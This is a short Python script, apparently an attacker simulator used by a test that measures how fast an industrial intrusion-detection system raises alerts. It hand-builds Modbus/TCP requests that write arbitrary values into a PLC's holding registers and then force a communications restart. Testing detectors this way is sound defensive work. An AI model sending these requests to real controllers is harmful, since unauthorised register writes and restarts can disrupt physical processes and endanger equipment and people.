"""The attacker: writes holding registers (FC 16), then asks the PLC to restart
communications (FC 8 sub-function 1). The ADUs are built by hand over a plain socket so every
byte on the wire is written here.

Usage: attacker.py HOST PORT. Prints "sent fc16" and "sent fc8" on stdout as soon as each
request has left (the test times alert latency from these lines), then the response or the
timeout.
"""

import socket
import struct
import sys

UNIT = 1  # unit identifier of the PLC


def mbap(transaction, pdu):
    """The Modbus/TCP header (MBAP, Modbus Messaging on TCP/IP Implementation Guide 3.1.3)."""
    return struct.pack(
        ">HHHB",
        transaction,  # transaction identifier: echoed by the server
        0,  # protocol identifier: 0 = Modbus
        len(pdu) + 1,  # length: bytes that follow, the unit identifier and the PDU
        UNIT,  # unit identifier
    ) + pdu


def write_multiple_registers(start, values):
    """FC 16 Write Multiple Registers (Modbus Application Protocol 1.1b3, 6.12)."""
    return struct.pack(
        ">BHHB",
        0x10,  # function code 16
        start,  # starting address
        len(values),  # quantity of registers
        2 * len(values),  # byte count
    ) + b"".join(struct.pack(">H", v) for v in values)  # register values, big endian


def restart_communications():
    """FC 8 Diagnostics, sub-function 1 Restart Communications Option (1.1b3, 6.8.1)."""
    return struct.pack(
        ">BHH",
        0x08,  # function code 8
        0x0001,  # sub-function 1: restart communications option
        0x0000,  # data: 0x0000 keeps the communications event log (0xFF00 clears it)
    )


def exchange(sock, name, adu):
    sock.sendall(adu)
    print(f"sent {name}", flush=True)
    try:
        reply = sock.recv(260)  # largest Modbus/TCP ADU
        print(f"reply {name} {reply.hex()}", flush=True)
    except socket.timeout:
        print(f"reply {name} timeout", flush=True)


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    with socket.create_connection((host, port), timeout=2) as sock:
        exchange(sock, "fc16", mbap(0x0A01, write_multiple_registers(10, [0xDEAD, 0xBEEF, 0x0BAD])))
        exchange(sock, "fc8", mbap(0x0A02, restart_communications()))


if __name__ == "__main__":
    main()
